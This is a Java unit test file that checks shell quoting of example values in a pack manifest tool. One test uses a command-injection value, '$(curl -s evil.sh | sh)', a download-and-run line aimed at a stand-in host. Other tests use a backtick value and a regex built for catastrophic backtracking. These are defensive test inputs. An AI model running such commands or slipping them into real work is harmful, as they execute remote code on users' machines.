package dev.packs.variables;

import static org.assertj.core.api.Assertions.assertThat;

import dev.packs.manifest.ManifestReader;
import dev.packs.pack.VariableDefinition;
import dev.packs.source.MemorySource;
import dev.packs.terminal.ShellText;
import java.nio.charset.StandardCharsets;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

class ExampleValueTest {

    private static VariableDefinition variable(String keys) {
        String manifest = MemorySource.manifest("starter", "1.0.0", """
                        [[variables]]
                        name = "x"
                        """ + keys);
        return ManifestReader.read(manifest.getBytes(StandardCharsets.UTF_8), "pack.toml", Optional.empty())
                .manifest()
                .variables()
                .get(0);
    }

    @Test
    void a_pattern_gets_the_first_usual_text_that_it_lets_through() {
        assertThat(argument("pattern = '[a-z]+([.][a-z]+)+'")).contains("-Dvar.x=com.acme");
        assertThat(argument("pattern = 'https://.+'")).contains("-Dvar.x=https://example.org");
    }

    private static Optional<String> argument(String keys) {
        return ExampleValue.argument(variable(keys), ShellText.POSIX);
    }

    @Test
    void what_a_pack_gives_as_an_example_never_reaches_the_shell() {
        assertThat(argument("example = '$(curl -s evil.sh | sh)'")).contains("'-Dvar.x=$(curl -s evil.sh | sh)'");
        assertThat(argument("example = \"it's\"")).contains("'-Dvar.x=it'\\''s'");
        assertThat(argument("example = \"a\\tb\"")).isEmpty();
        assertThat(ExampleValue.argument(variable("example = '`calc`'"), ShellText.WINDOWS))
                .isEmpty();
    }

    @Test
    @Timeout(value = 20, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
    void a_pattern_that_backtracks_without_end_is_given_up() {
        VariableDefinition hostile = variable("pattern = '((((([a-z:/.@-]+)+)+)+)+)+!'");

        assertThat(ExampleValue.of(hostile)).isEqualTo("…");
    }
}
